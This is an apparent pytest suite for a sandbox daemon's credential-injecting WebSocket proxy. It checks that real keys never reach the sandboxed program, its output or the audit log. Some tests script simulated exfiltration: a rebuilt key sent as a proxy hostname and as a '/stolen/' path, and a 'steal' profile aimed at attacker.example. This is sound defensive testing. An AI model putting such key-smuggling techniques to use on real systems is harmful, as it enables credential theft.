"""WebSocket through a credential route, end to end: a real nonod (on a thread), a session
launched with ``nonoctl launch`` whose program speaks WebSocket with the ``websockets``
library to its route's base URL, and a fake upstream (a ``websockets`` server over TLS with a
private CA) that the daemon reaches through its ``[network] resolve`` pin and
``extra_ca_file``. The upstream checks every handshake: it must carry the real credential and
never the phantom token.
"""

from __future__ import annotations

import asyncio
import gc
import grp
import json
import os
import ssl
import subprocess
import sys
import threading
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import trustme
import websockets
from websockets.asyncio.server import ServerConnection, serve
from websockets.http11 import Request, Response

from nonod.credentials import Secret
from tests.daemon.conftest import DaemonThread
from tests.daemon.conftest import short_tmp as short_tmp  # the fixture
from tests.daemon.test_cli import CLI, cli_env

pytestmark = [pytest.mark.root, pytest.mark.userns]

HOST = "ws.example.test"
REAL = "wsk_REAL_0123456789abcdef_REAL"
SITE = Path(websockets.__file__).resolve().parents[1]  # the venv's site-packages
PY = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
BIG = 3 * 1024 * 1024 + 17  # more than one read, more than one frame each way

INSIDE = r'''
import json, os, sys
sys.path.insert(0, sys.argv[1])
from websockets.exceptions import ConnectionClosed, InvalidStatus
from websockets.sync.client import connect

base = os.environ["WSAPI_BASE_URL"].replace("http://", "ws://", 1)
token = os.environ["WSAPI_KEY"]
headers = {"x-api-key": token}
out = {"token": token}
if sys.argv[3:] == ["halves"]:
    # The key comes back in two pieces the scrubber cannot know for parts of it (its
    # documented residual: a key cut up by the upstream): the program puts it together and
    # writes it where the daemon records what it does: the targets of requests to its proxy.
    import base64, socket
    with connect(base + "/echo", additional_headers=headers, open_timeout=20) as ws:
        ws.send("halves")
        key = ws.recv(timeout=20) + ws.recv(timeout=20)
    auth = base64.b64encode(b"nono:" + os.environ["NONO_PROXY_TOKEN"].encode()).decode()
    port = int(os.environ["HTTP_PROXY"].rsplit(":", 1)[1])
    for head in (f"CONNECT {key}.invalid:443 HTTP/1.1\r\nHost: {key}.invalid:443\r\n",
                 f"GET http://blocked.invalid/stolen/{key} HTTP/1.1\r\n"
                 "Host: blocked.invalid\r\n"):
        with socket.create_connection(("127.0.0.1", port), timeout=20) as s:
            s.sendall((head + f"Proxy-Authorization: Basic {auth}\r\n\r\n").encode())
            out.setdefault("answers", []).append(s.recv(200).decode()[:12])
    out["key_rebuilt"] = len(key)
    print(json.dumps(out))
    sys.exit(0)
if sys.argv[3:] == ["echo"]:
    with connect(base + "/echo", additional_headers=headers, open_timeout=20) as ws:
        ws.send("hello")
        out["text"] = ws.recv(timeout=20)
    print(json.dumps(out))
    sys.exit(0)
with connect(base + "/echo?room=1", additional_headers=headers,
             subprotocols=["chat.v1"], max_size=None, open_timeout=20) as ws:
    out["subprotocol"] = ws.subprotocol
    ws.send("hello")
    out["text"] = ws.recv(timeout=20)
    ws.send(b"\x00\x01binary")
    out["binary"] = ws.recv(timeout=20).hex()
    ws.ping(b"p1").wait(20)
    out["pong"] = True
    big = bytes(range(256)) * (int(sys.argv[2]) // 256) + b"x" * (int(sys.argv[2]) % 256)
    ws.send([big[i:i + 65536] for i in range(0, len(big), 65536)])  # a fragmented message
    back = ws.recv(timeout=60)
    out["big_same"] = back == big
    ws.send("reflect")
    out["reflected"] = ws.recv(timeout=20)
    ws.send("close-4001")
    try:
        ws.recv(timeout=20)
    except ConnectionClosed as closed:
        out["close_code"] = closed.rcvd.code if closed.rcvd else None
        out["close_reason"] = closed.rcvd.reason if closed.rcvd else None
with connect(base + "/echo", additional_headers=headers, open_timeout=20) as ws:
    ws.close(code=4002, reason="client done")
    out["client_close"] = ws.close_code
for name in ("refuse", "bad-101"):
    try:
        with connect(f"{base}/{name}", additional_headers=headers, open_timeout=20):
            out[name] = "accepted"
    except InvalidStatus as exc:
        out[name] = exc.response.status_code
        out[name + "_body"] = exc.response.body.decode("utf-8", "replace")
    except Exception as exc:
        out[name] = repr(exc)
print(json.dumps(out))
'''


@dataclass
class Upstream:
    """The fake ``ws.example.test``: a TLS WebSocket server on a thread of its own."""

    port: int = 0
    ca_file: Path = Path()
    handshakes: list[dict[str, str]] = field(default_factory=list)
    closes: list[int | None] = field(default_factory=list)


def _handshake(upstream: Upstream) -> object:
    def check(connection: ServerConnection, request: Request) -> Response | None:
        upstream.handshakes.append({k.lower(): v for k, v in request.headers.raw_items()})
        if request.path.startswith("/refuse"):
            return connection.respond(403, f"no websockets here (key {REAL})\n")
        if request.headers.get("x-api-key") != REAL:
            return connection.respond(401, "wrong key\n")
        return None
    return check


def _answer(connection: ServerConnection, request: Request, response: Response
            ) -> Response | None:
    if request.path.startswith("/bad-101"):
        # A 101 that the proxy's WebSocket client must refuse: a subprotocol never offered.
        response.headers["Sec-WebSocket-Protocol"] = "never-offered"
    return None


async def _echo(ws: ServerConnection, upstream: Upstream) -> None:
    try:
        async for message in ws:
            if message == "halves":
                await ws.send(REAL[:10])
                await ws.send(REAL[10:])
            elif message == "reflect":
                await ws.send(f"your key is {REAL}")
            elif message == "close-4001":
                await ws.close(4001, "bye")
            elif isinstance(message, bytes) and len(message) > 65536:
                await ws.send([message[i:i + 50000] for i in range(0, len(message), 50000)])
            else:
                await ws.send(message)
    except websockets.ConnectionClosed:
        pass
    upstream.closes.append(ws.close_code)


@pytest.fixture
def ws_upstream(tmp_path: Path) -> Iterator[Upstream]:
    ca = trustme.CA()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ca.issue_cert(HOST).configure_cert(context)
    upstream = Upstream(ca_file=tmp_path / "ca.pem")
    ca.cert_pem.write_to_path(str(upstream.ca_file))
    upstream.ca_file.chmod(0o644)
    ready = threading.Event()
    loop = asyncio.new_event_loop()
    stop = loop.create_future()

    async def main() -> None:
        async with serve(lambda ws: _echo(ws, upstream), "127.0.0.1", 0, ssl=context,
                         process_request=_handshake(upstream), process_response=_answer,
                         max_size=None,
                         select_subprotocol=lambda ws, offered: offered[0] if offered
                         else None) as server:
            upstream.port = server.sockets[0].getsockname()[1]
            ready.set()
            await stop

    thread = threading.Thread(target=loop.run_until_complete, args=(main(),), daemon=True)
    thread.start()
    assert ready.wait(30)
    yield upstream
    loop.call_soon_threadsafe(stop.set_result, None)
    thread.join(30)


def launch(upstream: Upstream, base: Path, credential_key: str, *program: str,
           client_env: dict[str, str] | None = None,
           after: Callable[[], None] | None = None,
           ) -> tuple[subprocess.CompletedProcess[str], DaemonThread]:
    """``nonoctl launch`` of ``program`` (in ``base/work``, holding inside.py) with one route,
    ``wsapi``, to the fake upstream, through a daemon pinned to it; the daemon is stopped
    before this returns (``after`` is called once the session ended, before that)."""
    work = base / "work"
    work.mkdir(mode=0o755, exist_ok=True)
    (work / "inside.py").write_text(INSIDE)
    profile = base / "ws.json"
    profile.write_text(json.dumps({
        "meta": {"name": "ws-e2e"},
        "filesystem": {"read": ["/usr", "/etc", "/lib", "/lib64", str(SITE)]},
        "network": {
            "allow_hosts": [HOST],
            "credentials": ["wsapi"],
            "custom_credentials": {"wsapi": {
                "upstream": f"https://{HOST}", "credential_key": credential_key,
                "env_var": "WSAPI_KEY", "inject_header": "x-api-key",
                "credential_format": "{}"}},
        },
    }))
    config = (f'[network]\nresolve = {{"{HOST}" = "127.0.0.1:{upstream.port}"}}\n'
              f'extra_ca_file = "{upstream.ca_file}"\n')
    daemon = DaemonThread(base, config=config).start()
    try:
        run = CLI({**cli_env(daemon.socket, base), **(client_env or {})}, work)
        done = run("launch", "--profile", str(profile), "--allow-cwd", "--", *program)
        if after is not None:
            after()
    finally:
        daemon.stop()
    return done, daemon


def test_websocket_route_end_to_end_through_the_daemon(
        ws_upstream: Upstream, short_tmp: Path) -> None:
    secret = short_tmp / "wsapi.key"
    secret.write_text(REAL + "\n")
    secret.chmod(0o600)
    done, daemon = launch(ws_upstream, short_tmp, f"file://{secret}",
                          PY, "-S", "inside.py", str(SITE), str(BIG))
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout.strip().splitlines()[-1])
    token = out["token"]
    assert len(token) == 64 and token != REAL
    assert out["subprotocol"] == "chat.v1"
    assert out["text"] == "hello"
    assert out["binary"] == b"\x00\x01binary".hex()
    assert out["pong"] is True
    assert out["big_same"] is True
    # The upstream echoed the key: the program gets its own phantom token back instead.
    assert out["reflected"] == f"your key is {token}"
    assert (out["close_code"], out["close_reason"]) == (4001, "bye")
    assert out["client_close"] == 4002
    assert 4002 in ws_upstream.closes
    # A refused upgrade: the program gets the upstream's status, never its body.
    assert out["refuse"] == 403
    assert REAL not in out["refuse_body"]
    # A 101 that is not a valid answer to the handshake: the program gets 502, not a reset.
    assert out["bad-101"] == 502
    # Every handshake the upstream saw carried the real key and never the phantom token.
    assert len(ws_upstream.handshakes) == 4
    for head in ws_upstream.handshakes:
        assert head["x-api-key"] == REAL
        assert all(token not in value for value in head.values())
    assert REAL not in done.stdout + done.stderr
    for path in daemon.state_dir.rglob("*"):
        if path.is_file():
            assert REAL.encode() not in path.read_bytes(), path
    assert os.environ.get("WSAPI_KEY") is None


def test_env_sources_read_the_daemons_environment_never_the_clients(
        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    variable = f"NONO_E2E_KEY_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.setenv(variable, REAL)  # the daemon runs on a thread of this process
    done, daemon = launch(ws_upstream, short_tmp, f"env://{variable}",
                          PY, "-S", "inside.py", str(SITE), "0", "echo",
                          client_env={variable: "the-clients-value-not-the-key"})
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout.strip().splitlines()[-1])
    assert out["text"] == "hello"
    assert [head["x-api-key"] for head in ws_upstream.handshakes] == [REAL]
    # The session's audit record says where the credential went (docs/audit.md: `into`).
    records = [json.loads(line)["event"] for path in daemon.state_dir.rglob("audit.ndjson")
               for line in path.read_text().splitlines() if line.strip()]
    injected = [r for r in records if r.get("type") == "credential_injected"]
    assert injected, sorted({str(r.get("type")) for r in records})
    assert [(r["route"], r["credential"], r["source"], r["into"]) for r in injected] == [
        ("wsapi", f"env://{variable}", "env", "x-api-key")]


def test_a_route_secret_the_program_pieced_together_stays_out_of_the_audit(
        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The audit file is shipped and kept: it must hold no real secret, whatever the program
    # writes into what is recorded, not only the phantom token and env_credentials values.
    variable = f"NONO_E2E_KEY_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.setenv(variable, REAL)
    done, daemon = launch(ws_upstream, short_tmp, f"env://{variable}",
                          PY, "-S", "inside.py", str(SITE), "0", "halves")
    assert done.returncode == 0, done.stderr
    out = json.loads(done.stdout.strip().splitlines()[-1])
    assert out["key_rebuilt"] == len(REAL)
    audit = "".join(path.read_text() for path in daemon.state_dir.rglob("audit.ndjson"))
    assert "blocked.invalid" in audit  # the requests are recorded...
    assert REAL.lower() not in audit.lower()  # ...without the key (hosts are lower case)
    assert "/stolen/[redacted]" in audit


def test_a_sessions_route_secret_is_let_go_when_it_ends(
        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Python cannot wipe a string, but the daemon holds a session's real secret only while
    # the session runs: nothing long-lived (a cancelled timer of the proxy's pump, waiting
    # for its deadline with its callback) may keep the session's route table alive.
    variable = f"NONO_E2E_KEY_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.setenv(variable, REAL)
    kept: list[int] = []

    def secrets() -> set[int]:
        gc.collect()
        return {id(o) for o in gc.get_objects() if isinstance(o, Secret)}

    before = secrets()  # other tests' (alive, so their ids are not reused)

    def count() -> None:
        kept.append(len(secrets() - before))

    done, _ = launch(ws_upstream, short_tmp, f"env://{variable}",
                     PY, "-S", "inside.py", str(SITE), "0", "echo", after=count)
    assert done.returncode == 0, done.stderr
    assert [head["x-api-key"] for head in ws_upstream.handshakes] == [REAL]
    assert kept == [0]


@pytest.mark.parametrize("source", ["env", "keychain"])
def test_a_route_whose_secret_is_missing_refuses_the_launch(
        ws_upstream: Upstream, short_tmp: Path, monkeypatch: pytest.MonkeyPatch,
        source: str) -> None:
    variable = f"NONO_E2E_ABSENT_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.delenv(variable, raising=False)
    # The daemon (on this thread's process) reaches no keychain: no session bus.
    monkeypatch.delenv("DBUS_SESSION_BUS_ADDRESS", raising=False)
    key = f"env://{variable}" if source == "env" else f"nono_e2e_absent_{uuid.uuid4().hex[:8]}"
    client_value = "client-side-value-" + uuid.uuid4().hex
    done, _ = launch(ws_upstream, short_tmp, key, "/bin/true",
                     client_env={variable: client_value})
    assert done.returncode == 123, (done.returncode, done.stdout, done.stderr)  # credentials
    assert "route `wsapi`" in done.stderr
    if source == "env":
        assert variable in done.stderr and "daemon's environment" in done.stderr
    else:
        assert key in done.stderr
    assert client_value not in done.stdout + done.stderr
    assert ws_upstream.handshakes == []


@pytest.mark.skipif(os.geteuid() != 0, reason="switching uids needs root")
def test_the_system_daemon_lends_no_secret_of_its_own_to_another_user(
        short_tmp: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A user of the system daemon names `env://` (the daemon's environment) in a route to an
    upstream of its choice: refused before anything runs, and the value goes nowhere."""
    from tests.daemon.conftest import NOBODY, as_user, hello, raw_client

    group = grp.getgrgid(NOBODY).gr_name if _has_gid(NOBODY) else "nogroup"
    variable = f"NONO_E2E_DAEMON_ONLY_{uuid.uuid4().hex[:8].upper()}"
    monkeypatch.setenv(variable, REAL)  # the system daemon runs on a thread of this process
    work = short_tmp / "work"
    work.mkdir(mode=0o777)
    profile = work / "steal.json"
    profile.write_text(json.dumps({
        "meta": {"name": "steal"},
        "network": {"allow_hosts": ["attacker.example"], "credentials": ["steal"],
                    "custom_credentials": {"steal": {
                        "upstream": "https://attacker.example",
                        "credential_key": f"env://{variable}", "env_var": "STEAL_KEY"}}},
    }))
    profile.chmod(0o644)
    daemon = DaemonThread(short_tmp, config=f'[daemon]\nsocket_group = "{group}"\n',
                          system=True).start()
    try:
        launch = {"type": "launch", "argv": ["/bin/true"], "cwd": str(work),
                  "profile": str(profile), "env": {"PATH": "/usr/bin:/bin"},
                  "options": {"allow_cwd": True}, "detach": True, "stdio": "null"}
        replies = [json.loads(line) for line in raw_client(
            daemon.socket, [hello(), launch], prefix=as_user(NOBODY, grp.getgrnam(group).gr_gid))]
    finally:
        daemon.stop()
    refused = replies[-1]
    assert refused.get("code") == "credential.not_permitted", replies
    assert variable in json.dumps(refused) and REAL not in json.dumps(replies)


def _has_gid(gid: int) -> bool:
    try:
        grp.getgrgid(gid)
    except KeyError:
        return False
    return True
